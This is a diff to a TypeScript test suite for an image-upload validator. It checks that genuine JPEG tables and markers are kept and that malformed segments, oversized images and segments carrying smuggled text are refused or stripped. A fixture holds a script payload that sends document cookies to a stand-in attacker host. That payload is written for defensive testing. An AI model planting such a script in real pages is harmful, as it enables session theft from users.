@@ -29,7 +29,8 @@ function refusalOf(contentBase64: string): { code: string; message: string; fiel
 describe('what is a photograph', () => {
   test('a JPEG, with its size', () => {
     expect(judge(jpeg())).toMatchObject({ mediaType: 'image/jpeg', widthPx: 24, heightPx: 16 });
-    expect(judge(jpeg({ widthPx: 12_000, heightPx: 9_000 }))).toMatchObject({ widthPx: 12_000 });
+    expect(judge(jpeg({ widthPx: 12_000, heightPx: 3_333 }))).toMatchObject({ widthPx: 12_000 });
+    expect(judge(jpeg({ widthPx: 8_000, heightPx: 5_000 }))).toMatchObject({ heightPx: 5_000 });
   });
 
   test('a PNG, with its size', () => {
@@ -100,6 +101,91 @@ describe('what is left out', () => {
   test('the colours of a PNG stay', () => {
     const coloured = png({ chunks: [pngChunk('gAMA', '\0\0\xb1\x8f'), pngChunk('sRGB', '\0')] });
     expect(base64(judge(coloured).content)).toBe(base64(coloured));
+  });
+});
+
+describe('what a JPEG needs besides its picture', () => {
+  const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
+  const values = (length: number) => Buffer.alloc(length, 7);
+  const quantization = Buffer.concat([Buffer.from([0x00]), values(64)]);
+  const wideQuantization = Buffer.concat([Buffer.from([0x13]), values(128)]);
+  const counts = Buffer.from([0, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
+  const huffman = Buffer.concat([Buffer.from([0x11]), counts, values(3)]);
+  const manyCodes = Buffer.concat([Buffer.from([0x11]), Buffer.alloc(16, 17), values(272)]);
+  const adobe = (transform = 1) =>
+    Buffer.concat([Buffer.from('Adobe\0\x64\0\0\0\0', 'latin1'), Buffer.from([transform])]);
+  const behind = (payload: Buffer) => Buffer.concat([payload, Buffer.from(script)]);
+  /** The picture with another payload in its segment of that marker. */
+  const changed = (code: number, change: (payload: Buffer) => Buffer) => {
+    const bytes = jpeg();
+    const at = bytes.indexOf(Buffer.from([0xff, code]));
+    const end = at + 2 + bytes.readUInt16BE(at + 2);
+    const segment = jpegSegment(code, change(bytes.subarray(at + 4, end)));
+    return Buffer.concat([bytes.subarray(0, at), segment, bytes.subarray(end)]);
+  };
+
+  test.each<[string, Buffer]>([
+    ['a quantization table', jpegSegment(0xdb, quantization)],
+    ['two of them', jpegSegment(0xdb, Buffer.concat([quantization, wideQuantization]))],
+    ['a Huffman table', jpegSegment(0xc4, huffman)],
+    ['two of them', jpegSegment(0xc4, Buffer.concat([huffman, huffman]))],
+    ['a restart interval', jpegSegment(0xdd, '\0\x04')],
+    ['the colours of Adobe', jpegSegment(0xee, adobe())],
+  ])('%s stays', (_what, segment) => {
+    const whole = jpeg({ segments: [segment] });
+    const { content } = judge(whole);
+    expect(base64(content)).toBe(base64(whole));
+    expect(base64(judge(Buffer.from(content)).content)).toBe(base64(content));
+  });
+
+  test.each<[string, Buffer]>([
+    ['words instead of a quantization table', jpegSegment(0xdb, script)],
+    ['words behind a quantization table', jpegSegment(0xdb, behind(quantization))],
+    ['half a quantization table', jpegSegment(0xdb, quantization.subarray(0, 40))],
+    ['no quantization table', jpegSegment(0xdb, '')],
+    ['words instead of a Huffman table', jpegSegment(0xc4, script)],
+    ['words behind a Huffman table', jpegSegment(0xc4, behind(huffman))],
+    ['half the head of a Huffman table', jpegSegment(0xc4, huffman.subarray(0, 9))],
+    ['a Huffman table without its last value', jpegSegment(0xc4, huffman.subarray(0, -1))],
+    ['a Huffman table of more than 256 codes', jpegSegment(0xc4, manyCodes)],
+    ['no Huffman table', jpegSegment(0xc4, '')],
+    ['words instead of a restart interval', jpegSegment(0xdd, script)],
+    ['words behind a restart interval', jpegSegment(0xdd, `\0\x04${script}`)],
+  ])('%s: refused', (_what, segment) => {
+    expect(refusalOf(base64(jpeg({ segments: [segment] })))).toMatchObject({
+      code: 'photo_refused',
+      message: expect.stringContaining('损坏') as string,
+    });
+  });
+
+  test.each<[string, Buffer]>([
+    ['words behind the frame', changed(0xc0, behind)],
+    ['a frame of 20 components', changed(0xc0, (payload) => Buffer.concat([payload, values(51)]))],
+    ['a component of no size', changed(0xc0, (p) => Buffer.from(p).fill(0, 7, 8))],
+    ['a component of a fifth table', changed(0xc0, (p) => Buffer.from(p).fill(4, 8, 9))],
+    ['words behind the head of the scan', changed(0xda, behind)],
+    ['a scan of five components', changed(0xda, () => Buffer.from([5, ...values(13)]))],
+    ['a scan of none', changed(0xda, () => Buffer.from([0, 0, 0x3f, 0]))],
+  ])('%s: refused', (_what, bytes) => {
+    expect(refusalOf(base64(bytes)).code).toBe('photo_refused');
+  });
+
+  test.each<[string, Buffer]>([
+    ['words', jpegSegment(0xee, script)],
+    ['words behind the colours of Adobe', jpegSegment(0xee, behind(adobe()))],
+    ['half of them', jpegSegment(0xee, adobe().subarray(0, 11))],
+    ['a transform that is none', jpegSegment(0xee, adobe(3))],
+    ['another name', jpegSegment(0xee, Buffer.concat([Buffer.from('Evil!'), Buffer.alloc(7)]))],
+  ])('APP14 with %s is left out', (_what, segment) => {
+    expect(base64(judge(jpeg({ segments: [segment] })).content)).toBe(base64(jpeg()));
+  });
+
+  test('the colours of Adobe are kept once, and come first', () => {
+    const [first, second] = [jpegSegment(0xee, adobe(1)), jpegSegment(0xee, adobe(0))];
+    const segments = [jpegSegment(0xee, script), jpegSegment(0xdd, '\0\x04'), first, second];
+    expect(base64(judge(jpeg({ segments })).content)).toBe(
+      base64(jpeg({ segments: [first, jpegSegment(0xdd, '\0\x04')] })),
+    );
   });
 });
 
@@ -180,6 +266,8 @@ describe('what is no photograph', () => {
     ],
     ['a PNG of two headers', base64(png({ chunks: [pngChunk('IHDR', '')] })), /损坏/],
     ['a JPEG wider than 12 000', base64(jpeg({ widthPx: 12_001 })), /12000 像素/],
+    ['a JPEG of 40 008 000 pixels', base64(jpeg({ widthPx: 8_000, heightPx: 5_001 })), /4000 万/],
+    ['a PNG of 144 million', base64(png({ widthPx: 12_000, heightPx: 12_000 })), /4000 万像素/],
     ['a PNG of 65 000 × 65 000', base64(png({ widthPx: 65_000, heightPx: 65_000 })), /12000 像素/],
     ['a PNG of 2³¹ pixels', base64(png({ widthPx: 2 ** 31, heightPx: 1 })), /12000 像素/],
   ])('%s', (_name, contentBase64, words) => {
